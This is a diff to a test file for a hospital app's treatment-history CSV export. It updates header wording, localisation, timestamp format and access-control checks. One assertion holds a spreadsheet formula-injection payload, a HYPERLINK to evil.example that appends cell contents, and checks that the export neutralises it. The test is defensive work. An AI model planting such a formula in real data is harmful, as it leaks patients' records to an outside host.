@@ -130,10 +130,12 @@ describe("treatment-history export", () => {
 
     const file = await downloadExport(db(), me, id);
     const lines = Buffer.from(file.content).toString("utf8").trim().split("\n");
-    expect(lines[0]).toBe("date,kind,summary,flag,id");
+    // Headed and worded for a person, each time to the second in the hospital's time zone.
+    expect(lines[0]).toBe("Date and time,Kind,Summary,Flag,Reference");
     expect(lines).toHaveLength(1 + 1 + 7); // header, registration, seven appointments
-    expect(lines.filter((l) => l.includes(",registered,Registered as "))).toHaveLength(1);
-    expect(lines.filter((l) => l.includes(",appointment,Dr Heart · Cancelled"))).toHaveLength(7);
+    expect(lines.filter((l) => l.includes(",Registration,Registered as "))).toHaveLength(1);
+    expect(lines.filter((l) => l.includes(",Appointment,Dr Heart · Cancelled"))).toHaveLength(7);
+    for (const l of lines.slice(1)) expect(l).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2}),/);
     expect(file.filename).toMatch(/^treatment-history-.+\.csv$/);
 
     for (const stranger of [w.other, w.nurse]) {
@@ -153,8 +155,8 @@ describe("treatment-history export", () => {
     const bytes = Buffer.from((await downloadExport(db(), ctxOf(w.nurse), id)).content);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
-    expect(lines.find((l) => l.includes(",appointment,"))).toMatch(/^[^,]+,appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/);
-    expect(lines.find((l) => l.includes(",vitals,"))).toMatch(/,vitals,T 39\.1 °C,,\w+$/);
+    expect(lines.find((l) => l.includes(",Appointment,"))).toMatch(/^[^,]+,Appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/);
+    expect(lines.find((l) => l.includes(",Vitals,"))).toMatch(/,Vitals,T 39\.1 °C,,\w+$/);
   });
 
   it("lets staff with chart access export any patient, and no one else", async () => {
@@ -165,7 +167,7 @@ describe("treatment-history export", () => {
     await expect(requestExport(db(), ctxOf(w.records), { kind: "treatment-history", patientId: w.patient.id })).rejects.toMatchObject({ code: "FORBIDDEN" });
   });
 
-  it("writes the CSV header in the requester's language", async () => {
+  it("writes the CSV header, the kinds and the summaries in the requester's language", async () => {
     const w = await world();
     await db().user.update({ where: { id: w.nurse.id }, data: { language: "fr" } });
     const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
@@ -173,7 +175,9 @@ describe("treatment-history export", () => {
     const file = await downloadExport(db(), ctxOf(w.nurse), id);
     const text = Buffer.from(file.content).toString("utf8");
     expect(text.startsWith("\uFEFF")).toBe(true);
-    expect(text.slice(1).split("\n")[0]).toBe("date,type,résumé,alerte,id");
+    const [header, ...rows] = text.slice(1).trimEnd().split("\n");
+    expect(header).toBe("Date et heure,Type,Résumé,Alerte,Référence");
+    expect(rows.some((l) => l.includes(",Enregistrement,"))).toBe(true);
     await expect(requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history" })).rejects.toBeInstanceOf(AppError);
     await expect(requestExport(db(), ctxOf(w.other), { kind: "treatment-history", patientId: w.patient.id })).rejects.toMatchObject({ code: "NOT_FOUND" });
   });
